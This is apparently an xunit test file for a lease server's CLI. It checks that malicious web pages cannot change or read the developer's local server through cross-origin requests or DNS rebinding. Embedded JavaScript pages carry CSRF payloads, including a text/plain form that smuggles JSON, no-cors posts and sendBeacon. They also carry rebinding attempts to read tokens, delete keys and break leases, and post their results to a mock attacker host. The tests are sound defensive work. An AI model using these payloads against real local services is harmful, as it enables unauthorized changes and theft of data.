using System.Diagnostics.CodeAnalysis;
using System.Text.Json;
using OrleansLeases.Cli.Tests.Infrastructure;

namespace OrleansLeases.Cli.Tests;

/// <summary>Alone, since a browser takes the processor from tests that a shell and signals are timed by.</summary>
[CollectionDefinition(nameof(HostilePageTests), DisableParallelization = true)]
[SuppressMessage("Naming", "CA1711", Justification = "So xunit calls it.")]
public sealed class HostilePageCollection;

/// <summary>What a page that a developer happens to open can do to the server on the developer's machine: nothing.</summary>
[Collection(nameof(HostilePageTests))]
public sealed class HostilePageTests(HostilePageTests.World world) : IClassFixture<HostilePageTests.World>
{
    private const string Rebound = "rebound.example";

    private readonly string _name = $"names/{Guid.NewGuid():N}";

    private string Server => world.Server!.Address;

    [ChromiumFact]
    public async Task Page_OfAnotherOrigin_NeitherChangesNorReadsAnything()
    {
        await HoldAsync();
        world.Attacker!.Put("other", Html("other", OtherOrigin()));

        await world.Browser!.OpenAsync($"{world.Attacker.Address}/other");
        var report = await world.Attacker.ReportOfAsync("other");

        // Each of them was tried: the page's code ran to its end.
        Assert.Equal(
            ["beacon", "bytes", "form", "json", "read", "readRebound", "rebound", "text"], report.Keys.Order(StringComparer.Ordinal));
        Assert.All(report.Values, seen => Assert.DoesNotContain("ann", seen, StringComparison.Ordinal));
        Assert.StartsWith("failed", report["json"], StringComparison.Ordinal);
        Assert.StartsWith("failed", report["read"], StringComparison.Ordinal);
        await NothingWasChangedAsync();
    }

    // A name of the attacker's that leads to this machine once its page is loaded: for the browser, all of it is one origin.
    [ChromiumFact]
    public async Task Page_UnderAReboundName_NeitherChangesNorReadsAnything()
    {
        await HoldAsync();

        var report = await ComeUnderAsync(Rebound);

        Assert.All(report, seen => Assert.StartsWith(seen.Key == "beacon" ? "true" : seen.Key == "watch" ? "failed" : "403", seen.Value,
            StringComparison.Ordinal));
        Assert.All(report.Values, seen => Assert.DoesNotContain("ann", seen, StringComparison.Ordinal));
        await NothingWasChangedAsync();
    }

    // The same page under a name of the server's own, where it may do all that its reader may: so its attempts are none that fail by
    // themselves.
    [ChromiumFact]
    public async Task Page_UnderTheServersOwnName_DoesAllOfIt()
    {
        await HoldAsync();

        var report = await ComeUnderAsync("localhost");

        Assert.All(report, seen => Assert.StartsWith(
            seen.Key is "beacon" ? "true" : seen.Key is "tokens" or "retire" ? "" : "200", seen.Value, StringComparison.Ordinal));
        Assert.Contains("ann", report["read"], StringComparison.Ordinal);
        Assert.Contains("ann", report["watch"], StringComparison.Ordinal);
        Assert.Contains("ann", report["frame"], StringComparison.Ordinal);
        Assert.Contains("page", (await GetAsync("get", $"{_name}/taken")).Out, StringComparison.Ordinal);
    }

    private async Task HoldAsync() =>
        Assert.Equal(0, (await Tool.RunAsync(Server, "acquire", _name, "--owner", "ann", "--ttl", "1h")).Code);

    private Task<ToolResult> GetAsync(params string[] verb) => Tool.RunAsync(Server, [.. verb, "--json"]);

    private async Task NothingWasChangedAsync()
    {
        Assert.Contains("\"owner\":\"ann\"", (await GetAsync("get", _name)).Out, StringComparison.Ordinal);
        Assert.DoesNotContain("taken", (await GetAsync("list", "--prefix", $"{_name}/")).Out, StringComparison.Ordinal);
        Assert.DoesNotContain("taken", (await GetAsync("key", "list", "--prefix", $"{_name}/")).Out, StringComparison.Ordinal);
    }

    // First the name leads to the attacker's page, and then, once that asks for it, to the server.
    private async Task<Dictionary<string, string>> ComeUnderAsync(string name)
    {
        await using var relay = new Relay(world.Attacker!.Address);
        world.Attacker.Rebind = () => relay.LeadTo(Server);
        world.Attacker.Put(name, Html(name, OneOrigin()));

        await world.Browser!.OpenAsync($"http://{name}:{new Uri(relay.Address).Port}/{name}");
        var report = await world.Attacker.ReportOfAsync(name);

        Assert.Equal(
            [
                "acquire", "beacon", "break", "dashboard", "delete", "frame", "jwks", "list", "put", "read", "retire", "tokens", "watch",
                "whoami",
            ],
            report.Keys.Order(StringComparer.Ordinal));
        return report;
    }

    private string OtherOrigin() => $$"""
        const server = '{{Server}}', rebound = server.replace('127.0.0.1', '{{Rebound}}');
        const form = document.createElement('form'), frame = document.createElement('iframe'), input = document.createElement('input');
        form.method = 'post', form.enctype = 'text/plain', form.target = frame.name = 'hidden';
        form.action = server + '/v1/leases/acquire';
        input.name = take('form').slice(0, -1) + ',"x":"', input.value = '"}';
        form.append(input), document.body.append(frame, form);
        const tries = {
          bytes: async () => {
            await post(server + '/v1/leases/break', bytes(end), { mode: 'no-cors' });
            return (await post(server + '/v1/leases/acquire', bytes(take('bytes')), { mode: 'no-cors' })).type;
          },
          text: async () => (await post(server + '/v1/leases/acquire', take('text'), { mode: 'no-cors' })).type,
          beacon: async () => `${navigator.sendBeacon(server + '/v1/counters/{{_name}}/taken', bytes('{"delta":1}'))}`,
          form: () => new Promise(done => {
            frame.onload = () => done('sent');
            form.submit();
          }),
          json: async () => (await post(server + '/v1/leases/acquire', take('json'), json)).text(),
          read: async () => (await fetch(server + '/v1/leases/{{_name}}')).text(),
          rebound: async () => (await post(rebound + '/v1/leases/acquire', bytes(take('rebound')), { mode: 'no-cors' })).type,
          readRebound: async () => (await fetch(rebound + '/v1/leases/{{_name}}')).text(),
        };
        """;

    private string OneOrigin() => $$"""
        await fetch('{{world.Attacker!.Address}}/rebind', { mode: 'no-cors' });
        const told = async response => `${(await response).status} ${await (await response).text()}`;
        const tries = {
          acquire: () => told(post('/v1/leases/acquire', take('taken'), json)),
          put: () => told(fetch('/v1/keys/{{_name}}/taken', { method: 'PUT', body: '{"value":"page"}', ...json })),
          beacon: async () => `${navigator.sendBeacon(
            '/v1/counters/{{_name}}/taken-too', new Blob(['{"delta":1}'], { type: 'application/json' }))}`,
          read: () => told(fetch('/v1/leases/{{_name}}')),
          list: () => told(fetch('/v1/leases')),
          whoami: () => told(fetch('/v1/whoami')),
          tokens: () => told(fetch('/v1/tokens')),
          jwks: () => told(fetch('/.well-known/jwks.json')),
          dashboard: () => told(fetch('/')),
          watch: () => new Promise((done, fail) => {
            const events = new EventSource('/v1/watch?resource={{_name}}');
            events.addEventListener('state', event => { events.close(); done('200 ' + event.data); });
            events.onerror = () => { events.close(); fail('no watch'); };
          }),
          frame: () => new Promise(done => {
            const frame = document.createElement('iframe');
            frame.onload = () => {
              const seen = frame.contentDocument?.body.innerText ?? 'nothing';
              done((seen.includes('forbidden') ? '403 ' : '200 ') + seen);
            };
            frame.src = '/v1/leases/{{_name}}', document.body.append(frame);
          }),
          delete: () => told(fetch('/v1/keys/{{_name}}/none', { method: 'DELETE' })),
          retire: () => told(fetch('/v1/proof-keys', { method: 'DELETE' })),
          break: () => told(post('/v1/leases/break', end, json)),
        };
        """;

    private string Html(string page, string tries) => $$"""
        <!doctype html>
        <body>
        <script type="module">
          const take = name => `{"resource":"{{_name}}/${name}","owner":"page","ttlMs":3600000}`;
          const end = '{"resource":"{{_name}}","graceMs":0,"force":true,"reason":"page"}';
          const bytes = text => new TextEncoder().encode(text);
          const json = { headers: { 'Content-Type': 'application/json' } };
          const post = (path, body, options) => fetch(path, { method: 'POST', body, ...options });
          {{tries}}
          const report = {};
          for (const [name, attempt] of Object.entries(tries)) {
            try { report[name] = await attempt(); } catch (error) { report[name] = `failed: ${error}`; }
          }
          await post('{{world.Attacker!.Address}}/report/{{page}}', JSON.stringify(report), { mode: 'no-cors' });
        </script>
        """;

    /// <summary>One browser, one server of leases and one of pages for all of them.</summary>
    public sealed class World : IAsyncLifetime
    {
        internal Chromium? Browser { get; private set; }

        internal Attacker? Attacker { get; private set; }

        internal ServerProcess? Server { get; private set; }

        public async Task InitializeAsync()
        {
            if (Chromium.Path is null) return;
            Server = await ServerProcess.StartAsync("--memory");
            Attacker = await Attacker.StartAsync();
            Browser = await Chromium.StartAsync($"--host-resolver-rules=MAP {Rebound} 127.0.0.1");
        }

        public async Task DisposeAsync()
        {
            if (Browser is not null) await Browser.DisposeAsync();
            if (Attacker is not null) await Attacker.DisposeAsync();
            if (Server is not null) await Server.DisposeAsync();
        }
    }
}
